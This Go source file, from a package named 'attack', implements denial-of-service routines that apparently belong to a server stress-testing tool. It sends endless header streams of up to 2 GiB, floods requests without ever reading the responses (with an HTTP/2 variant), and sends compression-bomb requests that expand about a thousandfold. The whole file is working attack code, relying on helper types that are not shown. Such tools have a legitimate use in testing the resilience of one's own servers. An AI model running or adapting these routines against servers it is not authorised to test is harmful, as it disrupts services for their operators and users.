package attack

import (
	"bytes"
	"net"
)

// endless sends up to 2 GiB of something that does not end, such as headers.
func endless(a *assault) error {
	return a.each(a.greeted, func(_ int, conn net.Conn) {
		a.write(conn, []byte(a.wire.endless))
		i := 0
		for sent := int64(0); sent < 2<<30 && !a.over(); {
			var b []byte
			for ; len(b) < 64<<10; i++ {
				b = append(b, a.wire.more(i)...)
			}
			if a.write(conn, b) != nil {
				return
			}
			sent += int64(len(b))
		}
	})
}

func canBeEndless(tg *target) bool { return tg.wire.more != nil }

// unread returns an attack that sends up to the given number of requests, each with size
// bytes of data, and never reads.
func unread(size, requests int) func(a *assault) error {
	return func(a *assault) error {
		if a.wire.http2 != nil {
			return a.floodHTTP2(size, requests)
		}
		return a.each(a.greeted, func(_ int, conn net.Conn) {
			a.write(conn, a.wire.first(size))
			next := a.wire.next(size)
			together := 1 + (64<<10)/len(next) // requests in one write
			next = bytes.Repeat(next, together)
			for sent := 1; sent < requests && !a.over(); sent += together {
				if a.write(conn, next) != nil {
					return
				}
			}
		})
	}
}

// bomb sends compressed requests, which are a thousand times as long when they are
// decompressed, and never reads.
func bomb(a *assault) error {
	tg := *a.target
	tg.wire = *tg.wire.bombs
	a.target = &tg
	return unread(maxSize-64, 500)(a)
}

func decompresses(tg *target) bool { return tg.wire.bombs != nil }
